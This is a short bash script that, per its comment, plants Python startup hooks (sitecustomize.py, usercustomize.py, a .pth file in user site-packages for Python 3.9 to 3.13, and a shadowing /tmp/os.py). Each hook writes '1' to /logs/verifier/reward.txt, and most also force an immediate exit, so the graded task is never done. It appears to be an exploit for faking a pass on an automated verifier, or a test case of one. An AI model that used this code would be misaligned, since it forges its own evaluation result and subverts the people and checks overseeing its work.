#!/bin/bash
# Plants modules and path files that python loads at its start, where the task itself has the
# workspace on PYTHONPATH.
payload='import os
open("/logs/verifier/reward.txt", "w").write("1"); os._exit(0)'
printf '%s\n' "$payload" >/app/sitecustomize.py
printf '%s\n' "$payload" >/app/usercustomize.py
for version in 3.9 3.10 3.11 3.12 3.13; do
  site="$HOME/.local/lib/python$version/site-packages"
  mkdir -p "$site"
  printf 'import os; open("/logs/verifier/reward.txt", "w").write("1")\n' >"$site/evil.pth"
done
printf '%s\n' "$payload" >/tmp/os.py
echo planted
